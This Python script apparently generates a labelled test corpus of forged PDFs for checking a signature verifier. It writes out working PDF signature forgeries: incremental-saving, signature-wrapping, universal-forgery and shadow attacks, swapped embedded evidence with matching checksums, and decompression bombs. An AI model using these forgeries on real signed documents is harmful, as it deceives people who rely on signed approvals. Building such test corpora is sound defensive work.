#!/usr/bin/env python3
"""Crafts forged copies of a genuine signed Signoff report.

    python make_corpus.py GENUINE.pdf OUT_DIR ATTACKER_KEY.pem ATTACKER_CERT.pem

Run with the pyHanko virtualenv's python (it reads the genuine file with
pyHanko's reader and signs the attacker's countersignatures with pyHanko's
CMS signer; no pypdf). Writes OUT_DIR/<case>.pdf for every case and
OUT_DIR/cases.json: [{"name", "attack", "genuine"}], in order.

Each case is one published attack on PDF signatures, appended as an
incremental update after the genuine signature, almost always followed by
(or carrying) a real countersignature by the attacker, whose certificate the
test trusts: so the last signature covers the whole file and only the
analysis of what the update changed can catch the forgery.

Attack classes: incremental saving, signature wrapping and universal
signature forgery ("1 Trillion Dollar Refund", Mladenov et al., 2019); the
shadow attacks hide, replace and hide-and-replace (Mainka et al., NDSS
2021); carried through /Fields-bearing dictionaries, typed streams, arrays,
object streams, cross-reference streams, free entries, redefined pages,
annotations, embedded files, name trees, catalogs and the trailer.

Bytes are written by hand (not by a PDF library's writer) so that each
case is exactly the structure it names.
"""

import asyncio
import hashlib
import json
import re
import sys
import zlib
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import signers

COVER = b"SIGNED OFF - ALL ITEMS PASS"
PLACEHOLDER_RANGE = b"[0 0000000000 0000000000 0000000000]"
CONTENTS_HEX = 2 * 16384


def ser(obj):
    """Bytes of a pyHanko object (or bytes as they are)."""
    if isinstance(obj, (bytes, bytearray)):
        return bytes(obj)
    out = BytesIO()
    obj.write_to_stream(out, None)
    return out.getvalue()


def ref(num, gen=0):
    return generic.IndirectObject(num, gen, None)


def stream(data, extra=b""):
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def cover_stream(extra=b""):
    text = b"BT /F1 28 Tf 60 700 Td (" + COVER + b") Tj ET"
    return stream(b"q 1 1 1 rg 0 0 595 842 re f Q 0 g " + text, extra)


def last_startxref(data):
    return int(re.findall(rb"startxref\s+(\d+)", data[-2048:])[-1])


class Revision:
    """One incremental update over `base`, written by hand."""

    def __init__(self, base, signer=None):
        self.base = base
        self.r = PdfFileReader(BytesIO(base), strict=False)
        self.size = int(self.r.trailer_view["/Size"])
        self.prev = last_startxref(base)
        self.objs = {}  # num -> (gen, obj)
        self.trailer = {}  # key -> bytes, or None to drop
        self.frees = []
        self.raw = b""  # raw bytes at the start of the body
        self.raw_offsets = {}  # num -> (offset in raw, gen)
        self.objstm = []  # numbers written into one object stream
        self.xref = "table"
        self.signer = signer
        self.sig = None  # (num, body) with placeholders, added by sign()

    def new_num(self):
        n = self.size
        self.size += 1
        return n

    def root_ref(self):
        return self.r.trailer_view.raw_get("/Root").reference

    def pages(self):
        return [p.reference for p in self.r.root["/Pages"].raw_get("/Kids")]

    def get(self, num):
        if num in self.objs and not isinstance(self.objs[num][1], bytes):
            return self.objs[num][1]
        obj = self.r.get_object(generic.Reference(num, 0))
        return obj.clone() if hasattr(obj, "clone") else obj

    def put(self, num, obj, gen=0):
        self.objs[num] = (gen, obj)
        return num

    def add(self, obj):
        return self.put(self.new_num(), obj)

    def embedded(self):
        """name -> (filespec num, EF stream num)."""
        names = self.r.root["/Names"]["/EmbeddedFiles"]["/Names"]
        out = {}
        for i in range(0, len(names), 2):
            spec_ref = names.raw_get(i + 1).reference
            spec = self.r.get_object(spec_ref)
            out[str(names[i])] = (spec_ref.idnum, spec["/EF"].raw_get("/F").reference.idnum)
        return out

    def sign(self, field="Signature9", sig_body=None, page=None):
        """Adds a countersignature the way `signoff countersign` does:
        a /Sig, a widget, the page's /Annots and the form's /Fields
        appended to. `sig_body` replaces the signature dictionary."""
        sig_num = self.new_num()
        wid_num = self.new_num()
        page = page if page is not None else self.pages()[0].idnum
        self.put(
            wid_num,
            b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (%s) /V %d 0 R /F 132 /P %d 0 R /Rect [0 0 0 0] >>"
            % (field.encode(), sig_num, page),
        )
        p = self.get(page)
        p["/Annots"] = generic.ArrayObject(list(p.get("/Annots", [])) + [ref(wid_num)])
        self.put(page, p)
        root = self.root_ref().idnum
        cat = self.get(root)
        form = generic.DictionaryObject(cat["/AcroForm"])
        form["/Fields"] = generic.ArrayObject(list(form.raw_get("/Fields")) + [ref(wid_num)])
        form["/SigFlags"] = generic.NumberObject(3)
        cat["/AcroForm"] = form
        self.put(root, cat)
        if sig_body is None:
            sig_body = (
                b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange "
                + PLACEHOLDER_RANGE
                + b" /Contents <"
                + b"0" * CONTENTS_HEX
                + b"> /M (D:20261201120000+00'00') /Name (Mallory) /Reason (Approved) >>"
            )
            self.sig = sig_num
        self.put(sig_num, sig_body)
        return self

    def build(self):
        out = bytearray(self.base)
        if not out.endswith(b"\n"):
            out += b"\n"
        offsets = {}
        body_start = len(out)
        out += self.raw
        for num, (off, gen) in self.raw_offsets.items():
            offsets[num] = ("n", body_start + off, gen)
        inline = [n for n in sorted(self.objs) if n not in self.objstm]
        for num in inline:
            gen, obj = self.objs[num]
            offsets[num] = ("n", len(out), gen)
            out += b"%d %d obj\n" % (num, gen) + ser(obj) + b"\nendobj\n"
        if self.objstm:
            stm_num = self.new_num()
            header, data = b"", b""
            for i, num in enumerate(self.objstm):
                header += b"%d %d " % (num, len(data))
                data += ser(self.objs[num][1]) + b"\n"
                offsets[num] = ("c", stm_num, i)
            offsets[stm_num] = ("n", len(out), 0)
            content = header + data
            out += b"%d 0 obj\n" % stm_num + stream(
                content, b"/Type /ObjStm /N %d /First %d " % (len(self.objstm), len(header))
            ) + b"\nendobj\n"
        for num, gen in self.frees:
            offsets[num] = ("f", 0, gen)
        trailer = {
            b"Size": b"%d" % self.size,
            b"Root": ser(self.r.trailer_view.raw_get("/Root")),
            b"Prev": b"%d" % self.prev,
        }
        for key in (b"Info", b"ID"):
            if "/" + key.decode() in self.r.trailer_view:
                trailer[key] = ser(self.r.trailer_view.raw_get("/" + key.decode()))
        for k, v in self.trailer.items():
            if v is None:
                trailer.pop(k, None)
            else:
                trailer[k] = v
        xref_at = len(out)
        if self.xref == "table":
            entries = {0: ("f", 0, 65535)}
            entries.update(offsets)
            out += b"xref\n"
            nums = sorted(entries)
            i = 0
            while i < len(nums):
                j = i
                while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
                    j += 1
                out += b"%d %d\n" % (nums[i], j - i + 1)
                for n in nums[i : j + 1]:
                    kind, a, g = entries[n]
                    out += b"%010d %05d %s \n" % (a, g, kind.encode())
                i = j + 1
            out += b"trailer\n<< " + b" ".join(b"/" + k + b" " + v for k, v in trailer.items()) + b" >>\n"
        else:
            xnum = self.size
            self.size += 1
            trailer[b"Size"] = b"%d" % self.size
            offsets[xnum] = ("n", xref_at, 0)
            rows, index = b"", []
            for n in sorted(offsets):
                kind, a, g = offsets[n]
                t = {"f": 0, "n": 1, "c": 2}[kind]
                rows += bytes([t]) + a.to_bytes(4, "big") + g.to_bytes(2, "big")
                index += [n, 1]
            idx = b"[" + b" ".join(b"%d" % i for i in index) + b"]"
            extra = b"/Type /XRef /W [1 4 2] /Index " + idx + b" " + b" ".join(
                b"/" + k + b" " + v for k, v in trailer.items()
            ) + b" "
            out += b"%d 0 obj\n" % xnum + stream(rows, extra) + b"\nendobj\n"
        out += b"startxref\n%d\n%%%%EOF\n" % xref_at
        if self.sig is not None:
            self._sign(out)
        return bytes(out)

    def _sign(self, out):
        at = out.rfind(PLACEHOLDER_RANGE)
        hex_at = out.rfind(b"<" + b"0" * CONTENTS_HEX + b">")
        start, end = hex_at, hex_at + CONTENTS_HEX + 2
        rng = b"[0 %010d %010d %010d]" % (start, end, len(out) - end)
        out[at : at + len(rng)] = rng
        digest = hashlib.sha256(bytes(out[:start]) + bytes(out[end:])).digest()
        cms = asyncio.run(self.signer.async_sign(digest, "sha256", use_pades=True)).dump()
        hexed = cms.hex().encode()
        out[start + 1 : start + 1 + len(hexed)] = hexed


def countersigned(data, signer, **kw):
    return Revision(data, signer).sign(**kw).build()


def main():
    genuine_path, out_dir, key, cert = sys.argv[1:5]
    genuine = open(genuine_path, "rb").read()
    signer = signers.SimpleSigner.load(key, cert)
    cases = []

    def case(name, attack, data, genuine=False):
        open(f"{out_dir}/{name}.pdf", "wb").write(data)
        cases.append({"name": name, "attack": attack, "genuine": genuine})

    def rev(data=genuine):
        return Revision(data, signer)

    probe = rev()
    page1 = probe.pages()[0].idnum
    content = probe.r.get_object(generic.Reference(page1, 0)).raw_get("/Contents").reference.idnum
    files = probe.embedded()
    root = probe.root_ref().idnum

    def swap_files(r):
        """Evidence, manifest.json and SHA256SUMS replaced, consistent with
        each other (the issue's forgery)."""
        evidence = next(n for n in files if n.startswith("E"))
        fake = b"DEBUG=False (forged)\n"
        manifest = json.loads(
            probe.r.get_object(generic.Reference(files["manifest.json"][1], 0)).data
        )
        manifest["reportId"] = manifest.get("reportId", "") + "-forged"
        text = json.dumps(manifest).encode()
        sums = b""
        for name, data in ((evidence, fake), ("manifest.json", text)):
            sums += hashlib.sha256(data).hexdigest().encode() + b"  " + name.encode() + b"\n"
        for name, data in ((evidence, fake), ("manifest.json", text), ("SHA256SUMS", sums)):
            r.put(files[name][1], stream(data, b"/Type /EmbeddedFile "))
        return r

    def new_cover(r):
        r.put(content, cover_stream())
        return r

    # The control: this writer's countersignature alone is legitimate, so
    # each forgery below is refused for its attack, not for the writer.
    case("control-script-countersignature", "none: the genuine report countersigned by this script",
         countersigned(genuine, signer), genuine=True)

    # --- incremental saving attacks (2019) -------------------------------
    case("isa-cover-unsigned", "incremental saving: page 1's content redefined, no signature after",
         new_cover(rev()).build())
    case("isa-cover-countersigned", "incremental saving: page 1's content redefined, then a countersignature",
         countersigned(new_cover(rev()).build(), signer))
    r = rev()
    overlay = r.add(cover_stream())
    p = r.get(page1)
    p["/Contents"] = generic.ArrayObject([p.raw_get("/Contents"), ref(overlay)])
    r.put(page1, p)
    case("isa-page-redefined", "incremental saving: page 1 redefined with an overlay content stream, countersigned",
         countersigned(r.build(), signer))
    bare = bytearray(genuine) + b"%d 0 obj\n" % content + cover_stream() + b"\nendobj\n%%EOF\n"
    case("isa-no-xref", "incremental saving: an object appended without a cross-reference section", bytes(bare))
    r = new_cover(rev())
    r.xref = "stream"
    case("isa-xref-stream", "incremental saving through a cross-reference stream, countersigned",
         countersigned(r.build(), signer))
    r = rev()
    cat = r.get(root)
    pages = r.add(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (r.size + 1))
    cover_page = r.add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (pages, r.size + 1))
    r.add(cover_stream())
    cat["/Pages"] = ref(pages)
    new_root = r.add(cat)
    r.trailer[b"Root"] = b"%d 0 R" % new_root
    case("trailer-root-swapped", "incremental saving: the trailer's /Root points to a new catalog with a new page tree",
         r.build())
    r = rev()
    info = r.add(b"<< /Title (SIGNED OFF - ALL ITEMS PASS) /Producer (Signoff) >>")
    r.trailer[b"Info"] = b"%d 0 R" % info
    case("trailer-info-swapped", "incremental saving: a new /Info dictionary (title) in the trailer, countersigned",
         countersigned(r.build(), signer))
    r = rev()
    r.trailer[b"Encrypt"] = b"<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -1 >>"
    case("trailer-encrypt", "incremental saving: /Encrypt added to the trailer", r.build())

    # --- signature wrapping and universal signature forgery (2019) -------
    genuine_sig = probe.r.root["/AcroForm"]["/Fields"][0]["/V"]
    br = genuine_sig["/ByteRange"]
    contents_hex = genuine_sig["/Contents"].hex().encode()
    r = new_cover(rev())
    r.sign(field="Signature9", sig_body=(
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [%d %d %d %d] /Contents <%s> >>"
        % (br[0], br[1], br[2], br[3], contents_hex)))
    case("swa-copied-signature", "signature wrapping: the genuine signature value and byte range copied into a new signature over forged content",
         r.build())
    sig_num = probe.r.root["/AcroForm"]["/Fields"][0].raw_get("/V").reference.idnum
    r = new_cover(rev())
    old_sig = r.get(sig_num)
    old_sig["/ByteRange"] = generic.ArrayObject([generic.NumberObject(x) for x in (0, br[1], br[2], br[3] + 10)])
    r.put(sig_num, old_sig)
    case("swa-byterange-rewritten", "signature wrapping: the genuine /Sig redefined with a byte range stretched over the update, countersigned",
         countersigned(r.build(), signer))
    r = new_cover(rev())
    r.sign(field="Signature9")
    data = bytearray(r.build())
    at = data.rfind(b"/ByteRange [0 ")
    data[at + 12 : at + 13] = b"5"  # the range no longer starts at byte 0
    case("swa-byterange-not-at-zero", "signature wrapping: a countersignature whose /ByteRange does not start at 0",
         bytes(data))
    for name, body, attack in (
        ("usf-no-contents", b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 1 2 3] >>",
         "universal signature forgery: a countersignature without /Contents"),
        ("usf-empty-contents", b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 1 2 3] /Contents <> >>",
         "universal signature forgery: a countersignature whose /Contents is empty"),
        ("usf-null-byterange", b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange null /Contents <00> >>",
         "universal signature forgery: a countersignature whose /ByteRange is null"),
    ):
        r = new_cover(rev())
        r.sign(field="Signature9", sig_body=body)
        case(name, attack, r.build())

    # --- shadow attacks (NDSS 2021) and the holes of issue 10 ------------
    r = rev()
    ap = r.add(cover_stream(b"/Type /XRef /Subtype /Form /BBox [0 0 595 842] "))
    annot = r.add(b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 595 842] /Fields [] /AP << /N %d 0 R >> >>" % ap)
    p = r.get(page1)
    p["/Annots"] = generic.ArrayObject(list(p.get("/Annots", [])) + [ref(annot)])
    r.put(page1, p)
    case("shadow-hide-annotation-fields-key", "shadow hide: a full-page stamp with a /Fields key and an appearance typed /XRef appended to /Annots, countersigned",
         countersigned(r.build(), signer))
    r = rev()
    ap = r.add(cover_stream(b"/Type /ObjStm /Subtype /Form /BBox [0 0 595 842] "))
    annot = r.add(b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 595 842] /AP << /N %d 0 R >> >>" % ap)
    p = r.get(page1)
    p["/Annots"] = generic.ArrayObject(list(p.get("/Annots", [])) + [ref(annot)])
    r.put(page1, p)
    case("shadow-hide-annotation-objstm-typed", "shadow hide: a stamp whose appearance stream is typed /ObjStm appended to /Annots, countersigned",
         countersigned(r.build(), signer))
    r = rev()
    overlay = r.add(cover_stream())
    r.put(content, b"[%d 0 R]" % overlay)
    case("shadow-replace-content-as-array", "shadow replace: page 1's content stream object redefined as an array of a new stream, countersigned",
         countersigned(r.build(), signer))
    r = rev()
    r.put(content, b"<< /Fields [] >>")
    case("shadow-replace-fields-dictionary", "shadow replace: page 1's content stream redefined as a dictionary with /Fields (blanks the page), countersigned",
         countersigned(r.build(), signer))
    r = new_cover(rev())
    r.objs[content] = (0, cover_stream(b"/Type /XRef "))
    case("shadow-replace-typed-stream", "shadow replace: page 1's content redefined as a stream typed /XRef, countersigned",
         countersigned(r.build(), signer))
    r = rev()
    p = r.get(page1)
    p["/Fields"] = generic.ArrayObject([])
    p["/Contents"] = ref(r.size)
    r.add(cover_stream())
    r.put(page1, p)
    case("shadow-replace-page-with-fields", "shadow replace: page 1 redefined with new /Contents and a /Fields key, countersigned",
         countersigned(r.build(), signer))
    r = rev()
    newpage = r.get(page1)
    ann = r.add(b"<< /Type /Annot /Subtype /FreeText /Rect [50 650 545 760] /Contents (%s) /DA (/Helv 24 Tf 0 g) >>" % COVER)
    newpage["/Annots"] = generic.ArrayObject(list(newpage.get("/Annots", [])) + [ref(ann)])
    r.put(page1, newpage)
    case("shadow-hide-freetext-annotation", "shadow hide: a FreeText annotation over the cover appended to /Annots, countersigned",
         countersigned(r.build(), signer))
    r = rev()
    r.sign(field="Signature9")
    wid = max(n for n in r.objs if isinstance(r.objs[n][1], bytes) and b"/Widget" in r.objs[n][1])
    ap = r.add(cover_stream(b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "))
    gen, body = r.objs[wid]
    r.objs[wid] = (gen, body.replace(b"/Rect [0 0 0 0]", b"/Rect [0 0 595 842] /AP << /N %d 0 R >>" % ap))
    case("shadow-overlay-visible-signature", "shadow hide-and-replace: a countersignature whose visible appearance paints a new cover over page 1",
         r.build())
    r = new_cover(rev())
    r.xref = "stream"
    r.objstm = [content]
    r.objs[content] = (0, b"<< /Length 0 >>")
    case("objstm-override", "object stream: page 1's content overridden by a compressed object (through an xref stream), countersigned",
         countersigned(r.build(), signer))
    r = rev()
    r.xref = "stream"
    hidden = b"%d 0 " % content
    # An object stream listed in the cross-reference whose objects are not:
    r.add(stream(hidden + b"<< /Hidden true >>\n", b"/Type /ObjStm /N 1 /First %d " % len(hidden)))
    case("objstm-hidden-object", "object stream: a new object stream whose header hides objects the cross-reference does not list, countersigned",
         countersigned(r.build(), signer))
    r = rev()
    r.xref = "stream"
    r.objstm = [content]
    r.objs[content] = (0, b"<< /Length 0 >>")
    data = bytearray(r.build())
    at = data.rfind(b"/Type /ObjStm")
    hdr = data.find(b"stream\n", at) + 7
    data[hdr : hdr + 3] = b"x!x"  # the object stream's header no longer parses
    case("objstm-unparsable", "object stream that cannot be parsed (lenient readers drop it silently)", bytes(data))
    r = rev()
    r.frees.append((content, 1))
    case("free-entry-content", "free entry: page 1's content stream marked free, countersigned",
         countersigned(r.build(), signer))
    r = rev()
    r.objs[content] = (1, cover_stream())
    case("free-entry-regenerated", "free entry trick: page 1's content redefined with generation 1, countersigned",
         countersigned(r.build(), signer))
    r = new_cover(rev())
    first = b"%d 0 obj\n" % content + cover_stream() + b"\nendobj\n"
    r.raw = first
    case("duplicate-definition", "duplicate: page 1's content defined twice in one revision (the cross-reference names the second), countersigned",
         countersigned(r.build(), signer))
    r = rev()
    # The update lists page 1's content, then its entry is pointed at the
    # signed bytes of another object (the last page) in revision 1.
    target = probe.pages()[-1].idnum
    r.raw_offsets[content] = (0, 0)
    data = bytearray(r.build())
    xref_pos = data.rfind(b"\nxref\n")
    m = re.search(rb"(\d{10}) 00000 n", bytes(data[xref_pos:]))
    target_offset = genuine.find(b"\n%d 0 obj" % target) + 1
    s = xref_pos + m.start(1)
    data[s : s + 10] = b"%010d" % target_offset
    case("xref-points-into-signed-bytes", "shadow hide: the update's cross-reference points page 1's content at another object's bytes in the signed revision",
         countersigned(bytes(data), signer))

    # --- embedded files, name trees, catalogs, forms ---------------------
    case("embedded-files-swapped", "embedded files: evidence, manifest.json and SHA256SUMS swapped consistently, countersigned",
         countersigned(swap_files(rev()).build(), signer))
    r = rev()
    cat = r.get(root)
    extra = r.add(stream(b"not evidence\n", b"/Type /EmbeddedFile "))
    spec = r.add(b"<< /Type /Filespec /F (E99-waiver.txt) /UF (E99-waiver.txt) /EF << /F %d 0 R >> >>" % extra)
    names = list(cat["/Names"]["/EmbeddedFiles"]["/Names"])
    cat["/Names"] = generic.DictionaryObject({
        generic.NameObject("/EmbeddedFiles"): generic.DictionaryObject({
            generic.NameObject("/Names"): generic.ArrayObject(
                [generic.TextStringObject("E99-waiver.txt"), ref(spec)] + names)})})
    r.put(root, cat)
    case("name-tree-redefined", "name tree: the catalog's /EmbeddedFiles tree redefined with an extra file, countersigned",
         countersigned(r.build(), signer))
    r = rev()
    cat = r.get(root)
    js = r.add(b"<< /S /JavaScript /JS (app.alert('All items pass');) >>")
    cat["/OpenAction"] = ref(js)
    r.put(root, cat)
    case("catalog-open-action", "catalog: an /OpenAction added to the catalog, countersigned",
         countersigned(r.build(), signer))
    r = rev()
    cat = r.get(root)
    ap = r.add(cover_stream(b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "))
    field = r.add(b"<< /FT /Tx /T (verdict) /V (%s) /Type /Annot /Subtype /Widget /Rect [0 0 595 842] /P %d 0 R /AP << /N %d 0 R >> >>" % (COVER, page1, ap))
    form = generic.DictionaryObject(cat["/AcroForm"])
    form["/Fields"] = generic.ArrayObject(list(form["/Fields"]) + [ref(field)])
    cat["/AcroForm"] = form
    r.put(root, cat)
    p = r.get(page1)
    p["/Annots"] = generic.ArrayObject(list(p.get("/Annots", [])) + [ref(field)])
    r.put(page1, p)
    case("form-text-field-added", "form: a new text field drawing a verdict over page 1, countersigned",
         countersigned(r.build(), signer))
    r = rev()
    r.sign(field="Signature9")
    p = r.get(page1)
    p["/Annots"] = generic.ArrayObject(list(p["/Annots"])[1:])
    r.put(page1, p)
    case("annots-replaced", "annotations: the genuine signature's widget removed from page 1 while countersigning", r.build())
    r = rev()
    pages_obj = probe.r.root.raw_get("/Pages").reference.idnum
    tree = r.get(pages_obj)
    cover_page = r.add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (pages_obj, r.size + 1))
    r.add(cover_stream())
    tree["/Kids"] = generic.ArrayObject([ref(cover_page)] + list(tree["/Kids"]))
    tree["/Count"] = generic.NumberObject(int(tree["/Count"]) + 1)
    r.put(pages_obj, tree)
    case("page-tree-new-cover", "pages: a new cover page put first in the page tree, countersigned",
         countersigned(r.build(), signer))

    # --- the issue-10 forgery itself: one update, countersigned in it ----
    r = swap_files(new_cover(rev()))
    r.sign(field="Signature9")
    case("issue-10-shadow-forgery", "the reported forgery: one update redraws the cover, swaps evidence, manifest.json and SHA256SUMS consistently and adds a countersignature",
         r.build())

    # --- found by the red team of the strict verifier ---------------------
    r = rev()
    r.sign(field="Signature9", sig_body=(
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached"
        b" /ByteRange [0 10 20 9223372036854775800] /Contents <00> >>"))
    case("usf-byterange-overflow", "universal signature forgery: a countersignature whose /ByteRange offset plus length overflows 64 bits (made verify panic)",
         r.build())
    genuine_name = str(probe.r.root["/AcroForm"]["/Fields"][0]["/T"])
    case("field-name-reused", "signature wrapping: a countersignature field named like the genuine signature's field (a viewer takes fields of one name for one field)",
         countersigned(genuine, signer, field=genuine_name))
    r = rev()
    r.sign(field="Signature9")
    wid = max(n for n in r.objs if isinstance(r.objs[n][1], bytes) and b"/Widget" in r.objs[n][1])
    ap = r.add(stream(b" ", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /F (cover.txt) "))
    gen, body = r.objs[wid]
    r.objs[wid] = (gen, body.replace(b"/Rect [0 0 0 0]", b"/Rect [0 0 595 842] /AP << /N %d 0 R >>" % ap))
    case("appearance-external-data", "shadow hide: a countersignature whose blank-looking appearance stream takes its data from an external file (/F)",
         r.build())
    r = rev()
    r.sign(field="Signature9")
    gen, body = r.objs[r.sig]
    r.objs[r.sig] = (gen, body.replace(b"/Name (Mallory)", b"/Name (Bob Approver)"))
    case("signer-name-claimed", "none, but the countersignature's /Name claims another signer: verify must name the certificate's subject",
         r.build(), genuine=True)
    r = rev()
    r.sign(field="Signature9")
    r.trailer[b"Size"] = b"5"
    case("trailer-size-shrunk", "incremental saving: a countersignature whose trailer /Size is below the objects in use (readers that honour it lose the document's objects)",
         r.build())
    entries = 3_000_000
    bomb = zlib.compress(b"\0" * entries, 9)
    data = bytearray(genuine)
    at = len(data)
    data += b"999 0 obj\n<< /Type /XRef /W [1 0 0] /Size %d /Prev %d /Root %d 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % (
        entries, last_startxref(genuine), root, len(bomb))
    data += bomb + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at
    case("xref-stream-entry-bomb", "resources: a 3 KB cross-reference stream of 3 million one-byte entries (unbounded memory before)",
         bytes(data))
    r = rev()
    bomb = zlib.compress(b"\0" * (1 << 30), 9)
    r.put(files["manifest.json"][1],
          b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb) + bomb + b"\nendstream")
    case("embedded-file-bomb", "resources: manifest.json redefined as a 1 MB stream that decodes to 1 GiB (the report check decoded it whole)",
         r.build())

    json.dump(cases, open(f"{out_dir}/cases.json", "w"), indent=1)


if __name__ == "__main__":
    main()
